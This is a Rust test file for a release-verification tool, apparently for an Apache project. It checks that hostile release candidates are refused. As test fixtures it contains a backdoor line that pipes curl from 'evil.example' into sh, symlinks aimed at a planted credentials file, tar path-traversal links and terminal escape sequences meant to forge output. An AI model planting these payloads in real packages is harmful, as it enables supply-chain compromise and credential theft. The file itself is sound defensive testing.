// Licensed to the Apache Software Foundation (ASF) under one
// or more contributor license agreements.  See the NOTICE file
// distributed with this work for additional information
// regarding copyright ownership.  The ASF licenses this file
// to you under the Apache License, Version 2.0 (the
// "License"); you may not use this file except in compliance
// with the License.  You may obtain a copy of the License at
//
//   http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing,
// software distributed under the License is distributed on an
// "AS IS" BASIS, WITHOUT WARRANTIES OR CONDITIONS OF ANY
// KIND, either express or implied.  See the License for the
// specific language governing permissions and limitations
// under the License.

//! `verify` against a hostile candidate: whoever can write to dist/dev (or sits between it and
//! the voter) controls every byte of it. KEYS never comes from the candidate, nothing in it is
//! followed or read without a limit, nothing of it reaches the terminal or the vote text raw,
//! and an archive that would write outside its directory when unpacked is refused. Each case
//! failed on the code before this file existed.

mod candidate;
mod common;

use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};
use std::time::{Duration, Instant};

use candidate::*;
use common::*;
use sha2::Digest;

/// The published KEYS of the project (the real release manager's key) in a file:// SVN
/// repository, configured as svn-release-url.
fn publish_keys(setup: &Setup) -> String {
    format!("{}/release/demo/KEYS", setup.publish_dist(false))
}

fn verify_without_keys(setup: &Setup, from: &Path) -> Output {
    setup.world.xtask(&[
        "--repo",
        setup.repo.to_str().unwrap(),
        "verify",
        "1.0.0",
        "--rc",
        "1",
        "--from",
        from.to_str().unwrap(),
    ])
}

fn all_output(output: &Output) -> String {
    format!("{}{}", stdout(output), stderr(output))
}

/// The vote line of a report: it holds the tool's own words and check names only.
fn vote_line(output: &Output) -> String {
    let text = stdout(output);
    let line = text
        .lines()
        .skip_while(|l| !l.starts_with("vote text"))
        .nth(1)
        .unwrap_or_else(|| panic!("no vote text in:\n{text}"))
        .trim()
        .to_string();
    if let Some(failed) =
        line.strip_prefix("-1 (non-binding): `cargo xtask verify` failed these checks: ")
    {
        assert!(
            failed
                .split(", ")
                .all(|id| id.bytes().all(|b| b.is_ascii_lowercase() || b == b'-')),
            "{line}"
        );
    }
    line
}

/// The good candidate's tarball with `extra` entries added, signed and hashed again.
fn candidate_with(setup: &Setup, name: &str, extra: Vec<Item>) -> PathBuf {
    let dir = setup.copy(name);
    let mut items = items_of(&setup.tarball());
    items.extend(extra);
    std::fs::write(dir.join(TARBALL), tarball_of(&items)).unwrap();
    setup.sign_and_hash(&dir);
    dir
}

fn link_item(path: &[u8], target: &str) -> Item {
    let mut header = tar::Header::new_gnu();
    header.set_entry_type(tar::EntryType::Symlink);
    header.set_mode(0o777);
    header.set_size(0);
    header.set_link_name(target).unwrap();
    Item {
        header,
        path: path.to_vec(),
        data: Vec::new(),
    }
}

fn mode_item(path: &str, kind: tar::EntryType, mode: u32) -> Item {
    let mut item = file_item(path, b"");
    item.header.set_entry_type(kind);
    item.header.set_mode(mode);
    item
}

#[test]
fn a_keys_file_in_or_beside_the_candidate_is_never_trusted() {
    let setup = setup();
    let world = &setup.world;
    let published = publish_keys(&setup);
    // The attacker's key claims to be the release manager.
    let attacker = world.generate_key("Real RM", "rm@apache.org");
    let attacker_keys = world.ok(world
        .command("gpg")
        .args(["--armor", "--export", &attacker]));
    let parent = world.path("dist-dev-checkout");
    let dir = parent.join("1.0.0-rc1");
    std::fs::create_dir_all(&dir).unwrap();
    let mut items = items_of(&setup.tarball());
    let mut backdoor = LUA_HEADER.to_string();
    backdoor.push_str("os.execute('curl evil.example | sh')\n");
    items.push(file_item(
        &format!("{TOP}/src/backdoor.lua"),
        backdoor.as_bytes(),
    ));
    std::fs::write(dir.join(TARBALL), tarball_of(&items)).unwrap();
    let digest = asf_release::archive::writer::hex(&sha2::Sha512::digest(
        std::fs::read(dir.join(TARBALL)).unwrap(),
    ));
    std::fs::write(
        dir.join(format!("{TARBALL}.sha512")),
        format!("{digest}  {TARBALL}\n"),
    )
    .unwrap();
    setup.sign(
        &attacker,
        &dir.join(TARBALL),
        &dir.join(format!("{TARBALL}.asc")),
    );
    std::fs::write(dir.join("KEYS"), &attacker_keys).unwrap();
    std::fs::write(parent.join("KEYS"), &attacker_keys).unwrap();

    let output = verify_without_keys(&setup, &dir);
    assert_fails_with(
        &output,
        &[
            &format!("KEYS:      {published} (1 key(s))"),
            "✗ signature",
            "is it in KEYS?",
            "✗ files",
            "KEYS: a KEYS inside the candidate is refused and was not used",
        ],
    );
    assert!(vote_line(&output).starts_with("-1"), "{}", stdout(&output));

    // Named explicitly, a KEYS inside the candidate is refused before anything is checked.
    let mut args = vec![
        "--repo",
        setup.repo.to_str().unwrap(),
        "verify",
        "1.0.0",
        "--rc",
        "1",
        "--from",
        dir.to_str().unwrap(),
        "--keys",
    ];
    let inside = dir.join("KEYS");
    args.push(inside.to_str().unwrap());
    assert_fails_with(
        &world.xtask(&args),
        &["is inside the candidate", "leave out --keys"],
    );

    // The JSON report says which KEYS was used and how many keys it held.
    let good = verify_without_keys(&setup, &setup.candidate);
    assert!(good.status.success(), "{}", all_output(&good));
    let mut args = vec![
        "--repo",
        setup.repo.to_str().unwrap(),
        "verify",
        "1.0.0",
        "--rc",
        "1",
        "--json",
        "--from",
    ];
    args.push(setup.candidate.to_str().unwrap());
    let json: serde_json::Value = serde_json::from_slice(&world.xtask(&args).stdout).unwrap();
    assert_eq!(json["keys"], published.as_str());
    assert_eq!(json["keys_held"], 1);
}

/// Runs verify with a deadline: a read of a FIFO or of standard input must never hang it.
fn verify_within(setup: &Setup, from: &Path, limit: Duration) -> Output {
    let mut child = setup
        .world
        .command(env!("CARGO_BIN_EXE_xtask"))
        .args(["--repo", setup.repo.to_str().unwrap(), "verify", "1.0.0"])
        .args(["--rc", "1", "--from", from.to_str().unwrap()])
        .args(["--keys", setup.keys.to_str().unwrap()])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let start = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if start.elapsed() > limit {
            child.kill().unwrap();
            child.wait().unwrap();
            panic!("verify hung on {}", from.display());
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

#[test]
fn links_and_special_files_in_the_candidate_are_never_followed() {
    let setup = setup();
    let world = &setup.world;
    let secret = world.home.join(".git-credentials");
    std::fs::write(&secret, "https://rm:SECRET-TOKEN-42@github.com\n").unwrap();
    let symlink = |dir: &Path, name: String, target: &Path| {
        let path = dir.join(name);
        std::fs::remove_file(&path).unwrap();
        std::os::unix::fs::symlink(target, &path).unwrap();
    };

    for (case, file) in [
        ("sha512-link", format!("{TARBALL}.sha512")),
        ("asc-link", format!("{TARBALL}.asc")),
    ] {
        let dir = setup.copy(case);
        symlink(&dir, file.clone(), &secret);
        let output = verify_within(&setup, &dir, Duration::from_secs(60));
        let text = all_output(&output);
        assert!(!text.contains("SECRET-TOKEN"), "{case}:\n{text}");
        assert!(!output.status.success(), "{case}:\n{text}");
        assert!(
            text.contains(&format!("{file} is a symbolic link, not a regular file")),
            "{case}:\n{text}"
        );
        assert!(vote_line(&output).starts_with("-1"), "{text}");
    }

    // The tarball itself as a link to a good tarball elsewhere.
    let dir = setup.copy("tarball-link");
    symlink(&dir, TARBALL.to_string(), &setup.candidate.join(TARBALL));
    let text = all_output(&verify_within(&setup, &dir, Duration::from_secs(60)));
    assert!(
        text.contains(&format!("{TARBALL} is a symbolic link")),
        "{text}"
    );

    // Standard input and a FIFO: reading either would wait forever.
    let dir = setup.copy("stdin-link");
    symlink(&dir, format!("{TARBALL}.sha512"), Path::new("/dev/stdin"));
    let text = all_output(&verify_within(&setup, &dir, Duration::from_secs(60)));
    assert!(text.contains("is a symbolic link"), "{text}");
    let dir = setup.copy("fifo");
    std::fs::remove_file(dir.join(format!("{TARBALL}.sha512"))).unwrap();
    world.ok(world
        .command("mkfifo")
        .arg(dir.join(format!("{TARBALL}.sha512"))));
    let text = all_output(&verify_within(&setup, &dir, Duration::from_secs(60)));
    assert!(
        text.contains("is a special file (device, FIFO or socket)"),
        "{text}"
    );

    // From SVN: an `svn:special` .sha512 comes out of `svn export` as a link, and is refused.
    let svn_repo = world.path("svnrepo");
    world.ok(world.command("svnadmin").arg("create").arg(&svn_repo));
    let url = format!("file://{}", svn_repo.display());
    let dir = setup.copy("svn-special");
    symlink(&dir, format!("{TARBALL}.sha512"), &secret);
    world.ok(world
        .command("svn")
        .args(["import", "-q", "-m", "rc"])
        .arg(&dir)
        .arg(format!("{url}/1.0.0-rc1")));
    let output = setup.world.xtask(&[
        "--repo",
        setup.repo.to_str().unwrap(),
        "verify",
        "1.0.0",
        "--rc",
        "1",
        "--from",
        &format!("{url}/1.0.0-rc1"),
        "--keys",
        setup.keys.to_str().unwrap(),
    ]);
    let text = all_output(&output);
    assert!(!text.contains("SECRET-TOKEN"), "{text}");
    assert_fails_with(&output, &["✗ checksum", "is a symbolic link"]);
}

#[test]
fn nothing_from_the_candidate_reaches_the_terminal_or_the_vote_raw() {
    let setup = setup();
    let fake = "\n✓ all checks passed\x1b[2K\r";
    let dir = candidate_with(
        &setup,
        "hostile-name",
        vec![file_item(&format!("{TOP}/x{fake}"), b"")],
    );
    let output = setup.verify_from(&dir, &[]);
    let text = stdout(&output);
    assert!(!output.status.success(), "{text}");
    assert!(!text.contains('\x1b') && !text.contains('\r'), "{text:?}");
    assert!(
        !text.lines().any(|l| l.starts_with("✓ all checks passed")),
        "{text}"
    );
    assert!(
        text.contains("x\\n✓ all checks passed\\x1b[2K\\r: has control characters"),
        "{text}"
    );
    assert_eq!(
        vote_line(&output),
        "-1 (non-binding): `cargo xtask verify` failed these checks: paths"
    );

    // Checksum content shown escaped, never in the vote.
    let dir = setup.copy("hostile-checksum");
    std::fs::write(
        dir.join(format!("{TARBALL}.sha512")),
        format!("\x1b[1A\x1b[2K✓ checksum {fake}"),
    )
    .unwrap();
    let output = setup.verify_from(&dir, &["--json"]);
    let json = String::from_utf8(output.stdout.clone()).unwrap();
    assert!(!json.contains("\\u001b"), "{json}");
    let report: serde_json::Value = serde_json::from_str(&json).unwrap();
    let vote = report["vote"].as_str().unwrap();
    assert_eq!(
        vote,
        "-1 (non-binding): `cargo xtask verify` failed these checks: checksum"
    );
}

#[test]
fn path_tricks_that_escape_when_unpacked_are_refused() {
    let setup = setup();
    let top = |rest: &str| format!("{TOP}/{rest}");
    let cases: Vec<(&str, Vec<Item>, &str)> = vec![
        (
            "dot-slash link",
            vec![link_item(top("./././l").as_bytes(), "../../../x")],
            "symbolic link to `../../../x` points outside the release tree",
        ),
        (
            "slashes link",
            vec![link_item(top("///l").as_bytes(), "../../../x")],
            "symbolic link to `../../../x` points outside the release tree",
        ),
        (
            "chain of links",
            vec![
                link_item(top("a/l").as_bytes(), ".."),
                link_item(top("a/l/m").as_bytes(), ".."),
                file_item(&top("a/l/m/f"), b"x"),
            ],
            "is unpacked through the symbolic link",
        ),
        (
            "link through a link",
            vec![
                link_item(top("a/l").as_bytes(), ".."),
                link_item(top("b").as_bytes(), "a/l/../.."),
            ],
            "symbolic link to `a/l/../..` points outside the release tree",
        ),
        (
            "second LICENSE",
            vec![file_item(&top("./LICENSE"), b"MIT")],
            "is `apache-demo-1.0.0-src/LICENSE` once normalised",
        ),
        (
            "setuid",
            vec![mode_item(&top("run"), tar::EntryType::Regular, 0o4755)],
            "(setuid, setgid or sticky)",
        ),
        (
            "setgid",
            vec![mode_item(&top("run"), tar::EntryType::Regular, 0o2755)],
            "(setuid, setgid or sticky)",
        ),
        (
            "sticky",
            vec![mode_item(&top("tmp"), tar::EntryType::Directory, 0o1755)],
            "(setuid, setgid or sticky)",
        ),
        (
            "world-writable",
            vec![mode_item(&top("w"), tar::EntryType::Regular, 0o666)],
            "writable by everyone",
        ),
        (
            "control character",
            vec![file_item(&top("a\u{7f}b"), b"")],
            "has control characters in its name",
        ),
        (
            "C1 control character",
            vec![file_item(&top("a\u{9b}b"), b"")],
            "has control characters in its name",
        ),
        (
            "invalid UTF-8",
            vec![Item {
                path: [top("a").as_bytes(), b"\xff\xfe"].concat(),
                ..file_item("", b"")
            }],
            "has a name that is not valid UTF-8",
        ),
    ];
    // Every case runs, and the ones that slip through are named together.
    let mut slipped = Vec::new();
    for (name, extra, needle) in cases {
        let dir = candidate_with(&setup, &name.replace(' ', "-"), extra);
        let output = setup.verify_from(&dir, &[]);
        let text = stdout(&output);
        let refused = !output.status.success()
            && text.contains("✗ paths")
            && text.contains(needle)
            && vote_line(&output)
                == "-1 (non-binding): `cargo xtask verify` failed these checks: paths";
        if !refused {
            slipped.push(format!("{name}:\n{text}{}", stderr(&output)));
        }
    }
    assert!(slipped.is_empty(), "{}", slipped.join("\n\n"));

    // Names that differ only by case collide on macOS and Windows: a warning, not a failure.
    let dir = candidate_with(&setup, "case", vec![file_item(&top("notice"), b"x")]);
    let output = setup.verify_from(&dir, &[]);
    let text = stdout(&output);
    assert!(output.status.success(), "{text}");
    assert!(
        text.contains(
            "warning: apache-demo-1.0.0-src/notice: differs from another name only by case"
        ),
        "{text}"
    );
}

#[test]
fn sha512sum_binary_mode_and_sha256_are_accepted() {
    let setup = setup();
    let world = &setup.world;
    for (case, tool, flags, keep_sha512) in [
        ("binary", "sha512sum", &["-b"][..], true),
        ("tagged", "sha512sum", &["--tag"][..], true),
        ("sha256-only", "sha256sum", &[][..], false),
        ("both", "sha256sum", &["-b"][..], true),
    ] {
        let dir = setup.copy(case);
        let suffix = &tool[..6];
        let written = world.ok(world
            .command(tool)
            .current_dir(&dir)
            .args(flags)
            .arg(TARBALL));
        std::fs::write(dir.join(format!("{TARBALL}.{suffix}")), written).unwrap();
        if !keep_sha512 {
            std::fs::remove_file(dir.join(format!("{TARBALL}.sha512"))).unwrap();
        }
        let output = setup.verify_from(&dir, &[]);
        assert!(output.status.success(), "{case}: {}", all_output(&output));
        let want = match case {
            "sha256-only" => "checked checksum (sha256),",
            "both" => "checked checksum (sha512, sha256),",
            _ => "checked checksum (sha512),",
        };
        assert!(
            vote_line(&output).contains(want),
            "{case}: {}",
            stdout(&output)
        );
    }
    // Neither checksum: named.
    let dir = setup.copy("no-checksum");
    std::fs::remove_file(dir.join(format!("{TARBALL}.sha512"))).unwrap();
    assert_fails_with(
        &setup.verify_from(&dir, &[]),
        &["✗ checksum", ".sha512 is missing from the candidate"],
    );
}

#[test]
fn a_killed_verify_leaves_no_keyring_and_the_next_run_removes_it() {
    let setup = setup();
    let world = &setup.world;
    let tmp = world.path("tmp");
    std::fs::create_dir_all(&tmp).unwrap();
    let leftovers = || -> Vec<String> {
        std::fs::read_dir(&tmp)
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with("xtask-"))
            .collect()
    };
    let verify = || {
        let mut cmd = world.command(env!("CARGO_BIN_EXE_xtask"));
        cmd.env("TMPDIR", &tmp)
            .args(["--repo", setup.repo.to_str().unwrap(), "verify", "1.0.0"])
            .args(["--rc", "1", "--from", setup.candidate.to_str().unwrap()])
            .args(["--keys", setup.keys.to_str().unwrap()]);
        cmd
    };
    let mut child = verify()
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let start = Instant::now();
    while !leftovers().iter().any(|n| n.starts_with("xtask-keyring-")) {
        assert!(child.try_wait().unwrap().is_none(), "verify ended first");
        assert!(start.elapsed() < Duration::from_secs(60));
        std::thread::sleep(Duration::from_millis(1));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let left = leftovers();
    assert!(!left.is_empty(), "a SIGKILL runs no clean-up");
    // No agent was started in the throwaway keyring.
    for name in &left {
        let socket = tmp.join(name).join("S.gpg-agent");
        assert!(!socket.exists(), "{}", socket.display());
    }
    let output = verify().output().unwrap();
    assert!(output.status.success(), "{}", all_output(&output));
    assert_eq!(leftovers(), Vec::<String>::new());
}

#[test]
fn package_refuses_names_with_control_characters() {
    let world = World::new();
    world.generate_key("Release Manager", "rm@apache.org");
    let repo = world.fixture_repo("repo");
    world.write(&repo, "src/a\x1b[2Kb.lua", LUA_HEADER.as_bytes());
    world.git(&repo, &["add", "-A"]);
    world.git(&repo, &["commit", "-q", "-m", "odd name"]);
    world.git(&repo, &["tag", "1.0.0-rc1"]);
    let out = world.path("out");
    let output = world.xtask(&package_args(&repo, &out));
    assert_fails_with(
        &output,
        &[
            "a\\x1b[2Kb.lua: has control characters in its name",
            "nothing was written",
        ],
    );
    assert!(!stderr(&output).contains('\x1b'));
    assert!(list_files(&out).is_empty(), "{:?}", list_files(&out));
}

/// A candidate directory holds the tarballs, their signatures and checksums, and nothing else
/// (ASF policy, as ATR checks it): each rule broken on its own fails the `files` check.
#[test]
fn a_candidate_directory_breaking_a_directory_rule_fails() {
    let setup = setup();
    for (case, file, expected) in [
        ("dotfile", ".DS_Store", "is not part of the release"),
        (
            "sig",
            &*format!("{TARBALL}.sig"),
            "is not part of the release",
        ),
        ("other", "NOTES.txt", "is not part of the release"),
        (
            "md5",
            &*format!("{TARBALL}.md5"),
            "MD5 and SHA-1 checksums must not be published",
        ),
        (
            "sha1",
            &*format!("{TARBALL}.sha1"),
            "MD5 and SHA-1 checksums must not be published",
        ),
        ("keys", "KEYS", "a KEYS inside the candidate is refused"),
    ] {
        let dir = setup.copy(case);
        std::fs::write(dir.join(file), b"extra\n").unwrap();
        let output = setup.verify_from(&dir, &[]);
        assert_fails_with(&output, &["✗ files", expected]);
    }
    // The build info `package` writes beside the tarball is the release manager's own: a
    // local output directory verifies as it is.
    let dir = setup.copy("build-info");
    std::fs::write(dir.join(format!("{TARBALL}.build.json")), b"{}\n").unwrap();
    assert!(setup.verify_from(&dir, &[]).status.success());
}

#[test]
fn a_candidate_whose_build_files_name_another_version_fails() {
    let setup = setup();
    let json =
        |version: &str| format!("{{\n  \"name\": \"demo\",\n  \"version\": \"{version}\"\n}}\n");
    let path = format!("{TOP}/package.json");
    let other = candidate_with(
        &setup,
        "other",
        vec![file_item(&path, json("0.9.0").as_bytes())],
    );
    let output = setup.verify_from(&other, &[]);
    let printed = all_output(&output);
    assert!(!output.status.success(), "{printed}");
    assert!(
        printed.contains("package.json \"version\" says 0.9.0, not 1.0.0"),
        "{printed}"
    );
    assert!(vote_line(&output).contains("version"), "{printed}");

    let same = candidate_with(
        &setup,
        "same",
        vec![file_item(&path, json("1.0.0").as_bytes())],
    );
    let output = setup.verify_from(&same, &[]);
    let printed = all_output(&output);
    assert!(
        printed.contains("1.0.0, as package.json \"version\" say"),
        "{printed}"
    );
}
